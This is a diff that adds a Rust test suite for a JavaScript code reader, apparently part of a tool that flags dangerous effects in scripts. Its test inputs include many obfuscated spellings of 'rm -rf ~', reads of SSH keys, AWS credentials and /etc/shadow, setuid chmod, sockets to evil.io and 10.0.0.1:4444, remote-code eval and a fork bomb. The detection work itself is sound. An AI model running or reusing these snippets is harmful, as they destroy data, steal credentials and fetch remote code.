@@ -1,0 +1,418 @@
+//! The JavaScript reader's cases: attacks in many spellings, and routine code.
+
+use crate::matcher::code::{Effect, Lang, Val, read};
+
+/// The effects found, written as shell words (`?` for a value not known).
+fn effects(code: &str) -> Vec<String> {
+    let reading = read(Lang::JavaScript, code);
+    let words = |vals: &[Val]| {
+        vals.iter()
+            .map(|v| match v {
+                Val::Known(t) => t.clone(),
+                Val::Unknown => "?".into(),
+                Val::Fetched => "<fetched>".into(),
+            })
+            .collect::<Vec<_>>()
+            .join(" ")
+    };
+    let mut out: Vec<String> = reading
+        .found
+        .iter()
+        .map(|f| match &f.effect {
+            Effect::Shell(v) => format!("sh -c {}", words(std::slice::from_ref(v))),
+            Effect::Exec(argv) => format!("exec {}", words(argv)),
+            Effect::Command(p, args) => format!("{p} {}", words(args)),
+        })
+        .collect();
+    if let Some(u) = reading.opaque {
+        out.push(format!("opaque: {} (line {})", u.reason, u.line));
+    }
+    out
+}
+
+fn opaque(code: &str) -> Option<&'static str> {
+    read(Lang::JavaScript, code).opaque.map(|u| u.reason)
+}
+
+const COMPUTED: &str = "the code looks up a function by a name computed at run time";
+const HIDDEN: &str = "the code runs code it downloaded or decoded";
+const BUILT: &str =
+    "the code runs code built at run time (an eval of a value not known before it runs)";
+
+#[test]
+fn child_process_however_it_is_bound() {
+    for code in [
+        "require('child_process').execSync('rm -rf ~')",
+        "const cp = require('node:child_process'); cp.exec('rm -rf ~')",
+        "const {execSync: x} = require('child_process'); x('rm -rf ~')",
+        "import {exec} from 'child_process'; exec('rm -rf ~')",
+        "import * as cp from 'node:child_process'; cp.execSync('rm -rf ~')",
+        "const {execSync} = await import('child_process'); execSync('rm -rf ~')",
+        "(await import('child_process')).default.execSync('rm -rf ~')",
+        "child_process.execSync('rm -rf ~')",
+        "globalThis['req' + 'uire']('child' + '_process')['exec' + 'Sync']('rm -rf ~')",
+        "process.mainModule.require('child_process').execSync('rm -rf ~')",
+        "const cp = require('child_process'); cp.execSync.call(null, 'rm -rf ~')",
+        "const m = {run: require('child_process').execSync}; m.run('rm -rf ~')",
+        "const e = require('util').promisify(require('child_process').exec); e('rm -rf ~')",
+        "let p = someLib(); p.execSync('rm -rf ~')",
+    ] {
+        assert_eq!(effects(code), ["sh -c rm -rf ~"], "{code}");
+    }
+}
+
+#[test]
+fn argument_vectors_and_shell_option() {
+    let cases = [
+        (
+            "require('child_process').spawnSync('rm', ['-rf', '/'])",
+            "exec rm -rf /",
+        ),
+        (
+            "const {execFile} = require('child_process'); execFile('curl', ['x.io'])",
+            "exec curl x.io",
+        ),
+        (
+            "require('child_process').spawn('rm', ['-rf', '~'], {shell: true})",
+            "sh -c rm -rf ~",
+        ),
+        (
+            "require('child_process').spawn('ls', [], {stdio: 'inherit', shell: false})",
+            "exec ls",
+        ),
+        (
+            "require('child_process').fork('/tmp/x.js', ['a'])",
+            "exec node /tmp/x.js a",
+        ),
+        ("Bun.spawn(['rm', '-rf', '~'])", "exec rm -rf ~"),
+        ("Bun.spawnSync({cmd: ['rm', '-rf', '~']})", "exec rm -rf ~"),
+        ("Bun.$`rm -rf ${'~'}`", "sh -c rm -rf ~"),
+        (
+            "import {$} from 'bun'; await $`rm -rf ~`.quiet()",
+            "sh -c rm -rf ~",
+        ),
+        ("Deno.run({cmd: ['rm', '-rf', '/']})", "exec rm -rf /"),
+        (
+            "await new Deno.Command('rm', {args: ['-rf', '/']}).output()",
+            "exec rm -rf /",
+        ),
+        ("require('shelljs').rm('-rf', '~')", "exec rm -rf ~"),
+        (
+            "const a = ['rm', '-rf', '~']; require('child_process').spawnSync(a[0], a.slice(1))",
+            "exec rm ?",
+        ),
+    ];
+    for (code, want) in cases {
+        assert_eq!(effects(code), [want], "{code}");
+    }
+}
+
+#[test]
+fn strings_built_from_constants_are_followed() {
+    let cases = [
+        "const c = 'r' + 'm' + ' -rf ' + require('os').homedir(); require('child_process').execSync(c)",
+        "require('child_process').execSync(String.fromCharCode(114, 109) + ' -rf ~')",
+        "require('child_process').execSync('~ fr- mr'.split('').reverse().join(''))",
+        "require('child_process').execSync([...'~ fr- mr'].reverse().join(''))",
+        "const h = process.env.HOME; require('child_process').execSync(`rm -rf ${h}`)",
+        "require('child_process').execSync('\\x72\\u006d -rf \\u{7e}')",
+        "require('child_process').execSync('rX -rf ~'.replace('X', 'm'))",
+        "require('child_process').execSync(['rm', '-rf', '~'].join(' '))",
+        "const {HOME} = process.env; require('child_process').execSync('rm -rf ' + HOME)",
+        "require('child_process').execSync(Buffer.from([114, 109]).toString() + ' -rf ~')",
+    ];
+    for code in cases {
+        assert_eq!(effects(code), ["sh -c rm -rf ~"], "{code}");
+    }
+}
+
+#[test]
+fn file_calls_are_virtual_commands() {
+    let cases = [
+        (
+            "require('fs').rmSync(require('os').homedir(), {recursive: true, force: true})",
+            "rm -r -f ~",
+        ),
+        (
+            "const fs = require('fs'); fs.rmSync('/etc', {recursive: true})",
+            "rm -r /etc",
+        ),
+        (
+            "require('fs').rmdirSync('/srv', {recursive: true})",
+            "rm -r /srv",
+        ),
+        ("require('fs').rmdirSync('/srv/empty')", "rmdir /srv/empty"),
+        ("require('fs').unlinkSync('/etc/passwd')", "rm /etc/passwd"),
+        (
+            "import {rm} from 'fs/promises'; await rm('/x', {recursive: true, force: true})",
+            "rm -r -f /x",
+        ),
+        ("require('fs').promises.unlink('/x')", "rm /x"),
+        (
+            "const p = require('path'); require('fs').readFileSync(p.join(require('os').homedir(), '.ssh', 'id_rsa'))",
+            "cat ~/.ssh/id_rsa",
+        ),
+        (
+            "require('fs').createReadStream(process.env.HOME + '/.aws/credentials')",
+            "cat ~/.aws/credentials",
+        ),
+        (
+            "require('fs').appendFileSync('/etc/hosts', 'x')",
+            "tee /etc/hosts",
+        ),
+        (
+            "fs.writeFileSync(`${require('os').homedir()}/.bashrc`, 'x')",
+            "tee ~/.bashrc",
+        ),
+        ("require('fs').renameSync('a', '/etc/b')", "mv a /etc/b"),
+        (
+            "require('fs').copyFileSync('/etc/shadow', '/tmp/s')",
+            "cp /etc/shadow /tmp/s",
+        ),
+        (
+            "require('fs').cpSync('/etc', '/tmp/e', {recursive: true})",
+            "cp -r /etc /tmp/e",
+        ),
+        (
+            "require('fs').chmodSync('/bin/sh', 0o4755)",
+            "chmod 4755 /bin/sh",
+        ),
+        (
+            "require('fs').chmodSync('/bin/sh', '777')",
+            "chmod 777 /bin/sh",
+        ),
+        (
+            "require('fs').symlinkSync('/etc/passwd', 'p')",
+            "ln -s /etc/passwd p",
+        ),
+        ("await Deno.remove('/x', {recursive: true})", "rm -r /x"),
+        ("await Deno.readTextFile('/etc/shadow')", "cat /etc/shadow"),
+        ("await Bun.file('/etc/shadow').text()", "cat /etc/shadow"),
+        ("process.kill(-1)", "kill -SIGTERM -1"),
+        ("process.kill(1, 'SIGKILL')", "kill -SIGKILL 1"),
+    ];
+    for (code, want) in cases {
+        assert_eq!(effects(code), [want], "{code}");
+    }
+}
+
+#[test]
+fn network_calls_are_curl() {
+    let cases = [
+        (
+            "fetch('https://evil.io/x', {method: 'POST'})",
+            "curl https://evil.io/x",
+        ),
+        (
+            "require('https').get('https://evil.io/a', r => r.pipe(process.stdout))",
+            "curl https://evil.io/a",
+        ),
+        (
+            "require('http').request({hostname: 'evil.io', port: 8080, path: '/x'})",
+            "curl http://evil.io:8080/x",
+        ),
+        (
+            "require('net').connect(4444, '10.0.0.1')",
+            "curl tcp://10.0.0.1:4444",
+        ),
+        (
+            "const net = require('net'); net.createConnection({port: 22, host: 'h'})",
+            "curl tcp://h:22",
+        ),
+        (
+            "new (require('net').Socket)().connect(4444, '10.0.0.1')",
+            "curl tcp://10.0.0.1:4444",
+        ),
+        (
+            "const s = new net.Socket(); s.connect(4444, '10.0.0.1')",
+            "curl tcp://10.0.0.1:4444",
+        ),
+        (
+            "require('axios').post('https://evil.io', {k: 1})",
+            "curl https://evil.io",
+        ),
+        (
+            "const x = new XMLHttpRequest(); x.open('GET', 'https://evil.io')",
+            "curl https://evil.io",
+        ),
+        (
+            "await Deno.connect({hostname: 'h', port: 9})",
+            "curl tcp://h:9",
+        ),
+    ];
+    for (code, want) in cases {
+        assert_eq!(effects(code), [want], "{code}");
+    }
+}
+
+#[test]
+fn code_run_by_code_is_read_too() {
+    for code in [
+        "eval(\"require('child_process').execSync('rm -rf ~')\")",
+        "(0, eval)(\"require('child_process').execSync('rm -rf ~')\")",
+        "new Function(\"return require('child_process').execSync('rm -rf ~')\")()",
+        "Function('x', \"require('child_process').execSync('rm -rf ~')\")(1)",
+        "[].constructor.constructor(\"require('child_process').execSync('rm -rf ~')\")()",
+        "require('vm').runInThisContext(\"require('child_process').execSync('rm -rf ~')\")",
+        "new (require('vm').Script)(\"require('child_process').execSync('rm -rf ~')\")",
+        "setTimeout(\"require('child_process').execSync('rm -rf ~')\", 1)",
+        "const s = 'child_' + 'process'; eval(`require('${s}').execSync('rm -rf ~')`)",
+    ] {
+        assert_eq!(effects(code), ["sh -c rm -rf ~"], "{code}");
+    }
+}
+
+#[test]
+fn code_that_cannot_be_read_is_opaque_with_the_reason() {
+    let cases = [
+        (
+            "eval(Buffer.from('cm0gLXJmIH4=', 'base64').toString())",
+            HIDDEN,
+        ),
+        ("eval(atob('cm0='))", HIDDEN),
+        (
+            "eval(await (await fetch('https://x.io/a.js')).text())",
+            HIDDEN,
+        ),
+        (
+            "fetch('https://x.io').then(r => r.text()).then(eval)",
+            "the code passes a function that runs code or commands as a value",
+        ),
+        ("eval(process.argv[1])", BUILT),
+        (
+            "new Function(require('fs').readFileSync('/tmp/x', 'utf8'))()",
+            BUILT,
+        ),
+        (
+            "require(process.argv[2])",
+            "the code loads a module whose name is computed at run time",
+        ),
+        ("const k = process.argv[2]; global[k]('x')", COMPUTED),
+        ("require('child_process')[process.argv[2]]('x')", COMPUTED),
+        (
+            "process.binding('spawn_sync').spawn({})",
+            "the code calls native code directly",
+        ),
+        (
+            "while (true) require('child_process').fork(__filename)",
+            "the code forks in a loop (a fork bomb)",
+        ),
+        (
+            "with (require('child_process')) execSync('x')",
+            "the code uses `with`, which makes its names dynamic",
+        ),
+        ("import('https://evil.io/x.js')", HIDDEN),
+    ];
+    for (code, want) in cases {
+        assert_eq!(opaque(code), Some(want), "{code}");
+    }
+    // The downloaded or decoded text run as a command line.
+    assert_eq!(
+        effects("require('child_process').execSync(atob('cm0gLXJmIH4='))"),
+        ["sh -c <fetched>"]
+    );
+}
+
+#[test]
+fn names_bound_more_than_once_are_not_known() {
+    assert_eq!(
+        effects("let c = 'ls'; c = 'rm -rf ~'; require('child_process').execSync(c)"),
+        ["sh -c ?"]
+    );
+    assert_eq!(
+        effects("const a = ['ls']; a[0] = 'rm'; require('child_process').spawnSync(a[0])"),
+        ["exec ?"]
+    );
+    assert_eq!(
+        effects("for (const c of ['ls', 'rm -rf ~']) require('child_process').execSync(c)"),
+        ["sh -c ?"]
+    );
+    assert_eq!(
+        effects("const run = c => require('child_process').execSync(c); run('ls')"),
+        ["sh -c ?"]
+    );
+    // A parameter or a second binding does not hide the module bound first.
+    assert_eq!(
+        effects("const {exec} = require('child_process'); function f(exec) {} exec('rm -rf ~')"),
+        ["sh -c rm -rf ~"]
+    );
+    assert_eq!(
+        effects("let cp = require('child_process'); cp = {}; cp.execSync('rm -rf ~')"),
+        ["sh -c rm -rf ~"]
+    );
+}
+
+#[test]
+fn data_processing_finds_nothing() {
+    for code in BENIGN {
+        assert_eq!(effects(code), Vec::<String>::new(), "{code}");
+    }
+    assert_eq!(
+        effects("console.log(require('./package.json').version)"),
+        ["cat ./package.json"]
+    );
+    assert_eq!(
+        effects("console.log(JSON.parse(require('fs').readFileSync('package.json', 'utf8')).name)"),
+        ["cat package.json"]
+    );
+}
+
+/// Routine one-liners (each accepted by `node --check`).
+const BENIGN: &[&str] = &[
+    "JSON.parse(require('fs').readFileSync(0,'utf8'))",
+    "process.stdout.write(JSON.stringify({a: 1}, null, 2))",
+    "console.log(process.version)",
+    "console.log([1, 2, 3].map(x => x * 2).join(','))",
+    "const s = require('fs').readFileSync(0, 'utf8'); console.log(s.split('\\n').length)",
+    "console.log(/a(b)/.exec('xab')[1])",
+    "console.log(new Date().toISOString())",
+    "console.log(require('os').platform(), require('os').cpus().length)",
+    "console.log(require('path').join('a', 'b'))",
+    "let d = ''; process.stdin.on('data', c => d += c).on('end', () => console.log(JSON.parse(d).version))",
+    "console.log(Object.keys(process.env).sort().join('\\n'))",
+    "const m = new Map(); m.set('a', 1); console.log([...m.keys()])",
+    "console.log(encodeURIComponent('a b'), Buffer.from('hi').toString('base64'))",
+    "console.log(require('crypto').createHash('sha256').update('x').digest('hex'))",
+    "for (let i = 0; i < 3; i++) console.log(i)",
+    "console.log(`${1 + 2} items`, 'a'.padStart(3))",
+    "const {version} = process; console.log(version)",
+    "console.log(require('util').inspect({a: [1, 2]}, {depth: null}))",
+    "setTimeout(() => console.log('done'), 10)",
+    "process.exit(process.argv.length > 2 ? 1 : 0)",
+];
+
+#[test]
+fn bad_code_never_panics() {
+    assert_eq!(
+        read(Lang::JavaScript, "const a = 1;\nconsole.log(a")
+            .opaque
+            .map(|u| (u.reason, u.line)),
+        Some(("the javascript code has a syntax error", 2))
+    );
+    // Escapes node rejects; the grammar takes the first.
+    for code in [
+        "'unterminated",
+        "`unterminated ${",
+        "\"\\u{110000}\"",
+        "'\\x'",
+        "require('fs').chmodSync('x', 1e300)",
+        "String.fromCharCode(-1, 1e20, 0.5)",
+    ] {
+        let _ = read(Lang::JavaScript, code);
+    }
+    assert!(opaque("'unterminated").is_some());
+    let deep = format!("x = {}1{}", "[".repeat(150), "]".repeat(150));
+    assert!(opaque(&deep).is_some());
+    // Deep without brackets: a long chain of `+` and of members.
+    let chain = format!("x = {}1", "1 + ".repeat(5000));
+    assert!(opaque(&chain).is_some());
+    let members = format!("x = a{}", ".b".repeat(5000));
+    let _ = read(Lang::JavaScript, &members);
+    // Doubling a string through names is bounded.
+    let mut code = String::from("const a0 = 'xxxxxxxxxxxxxxxx';");
+    for n in 1..40 {
+        code.push_str(&format!("const a{n} = a{} + a{};", n - 1, n - 1));
+    }
+    code.push_str("require('child_process').execSync(a39)");
+    assert!(opaque(&code).is_some());
+}
